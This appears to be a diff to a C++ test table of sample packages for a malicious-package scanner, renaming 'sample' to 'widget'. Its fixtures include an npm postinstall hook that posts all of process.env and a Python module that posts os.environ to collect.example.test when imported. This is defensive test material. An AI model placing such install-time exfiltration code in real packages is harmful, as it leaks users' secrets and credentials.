@@ -40,7 +40,7 @@ constexpr Sample samples[] = {
     {.name = "an install hook posts process.env",
      .expect = "index.js:5",
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
+{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
 ==> index.js
 const https = require("https");
 const body = JSON.stringify(process.env);
@@ -50,21 +50,21 @@ request.write(body);
 request.end();
 )"},
     {.name = "a module posts os.environ when imported",
-     .expect = "sample/__init__.py:3",
+     .expect = "widget/__init__.py:3",
      .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 from setuptools import setup
-setup(name="sample", version="1.0.0", packages=["sample"])
-==> sample/__init__.py
+setup(name="widget", version="1.0.0", packages=["widget"])
+==> widget/__init__.py
 import os
 import requests
 requests.post("https://collect.example.test/", json=dict(os.environ))
 )"},
     {.name = "one named variable chooses a mirror", .expect = silent, .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
+{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
 ==> index.js
 const https = require("https");
 const mirror = process.env.SAMPLE_MIRROR || "https://downloads.example.test";
